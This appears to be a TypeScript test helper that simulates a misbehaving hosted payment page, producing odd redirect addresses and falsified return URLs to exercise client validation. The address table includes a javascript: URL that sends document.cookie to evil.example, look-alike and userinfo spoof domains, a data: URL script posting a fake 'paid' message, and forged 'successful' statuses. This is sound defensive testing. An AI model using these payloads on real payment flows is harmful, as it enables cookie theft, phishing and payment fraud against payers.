import type { Fault } from '../scenarios/behaviour.ts';

/** Where an answer sends the payer instead of to the page. */
export type OddAddress =
  | 'foreign'
  | 'look-alike'
  | 'userinfo'
  | 'plain'
  | 'javascript'
  | 'data'
  | 'missing'
  | 'empty';

/** What the way back says in place of the truth; `never`: there is no way back. */
export type OddReturn = 'never' | 'says-successful' | 'says-failed' | 'another-reference' | 'bare';

/** What goes wrong with a hosted page, from the call that asks for it to the way back. */
export interface PageTrouble {
  readonly fault?: Fault;
  /** The same reference may be initiated again: that is another page. */
  readonly takesReferenceAgain?: true;
  readonly address?: OddAddress;
  readonly returns?: OddReturn;
}

const addresses: Readonly<Record<Exclude<OddAddress, 'missing'>, (url: URL) => string>> = {
  foreign: ({ pathname }) => `https://evil.example${pathname}`,
  'look-alike': ({ pathname }) => `https://authorise.mono.co.evil.example${pathname}`,
  userinfo: (url) => Object.assign(new URL(url), { username: 'authorise.mono.co', password: 'x' }).href,
  plain: ({ pathname }) => `http://authorise.mono.co${pathname}`,
  javascript: () => "javascript:fetch('https://evil.example/'+document.cookie)",
  data: () => 'data:text/html,<script>parent.postMessage("paid","*")</script>',
  empty: () => '',
};

/** The address that an answer tells; undefined where it tells none. */
export const toldAddress = (url: URL, odd: OddAddress | undefined): string | undefined => {
  if (odd === undefined) return url.href;
  return odd === 'missing' ? undefined : addresses[odd](url);
};

/** How the payer's visit ended, as the page knows it. */
export type VisitEnd = 'successful' | 'failed' | 'processing' | 'closed';

/**
 * Where the page sends the payer back to: with `reference` and `status`, and `reason=widget_closed` where the payer closed it. Undefined without an
 * address, or where the way back is lost.
 */
export function wayBack(
  redirectUrl: string | undefined,
  reference: string,
  end: VisitEnd,
  odd: OddReturn | undefined,
): string | undefined {
  if (redirectUrl === undefined || odd === 'never') return undefined;
  const target = new URL(redirectUrl);
  if (odd === 'bare') return target.href;
  const truth = end === 'closed' ? 'failed' : end;
  const told = odd === 'says-successful' ? 'successful' : odd === 'says-failed' ? 'failed' : truth;
  target.searchParams.set('reference', odd === 'another-reference' ? 'ANOTHERREFERENCE0000' : reference);
  target.searchParams.set('status', told);
  if (told === 'failed' && end === 'closed') target.searchParams.set('reason', 'widget_closed');
  return target.href;
}
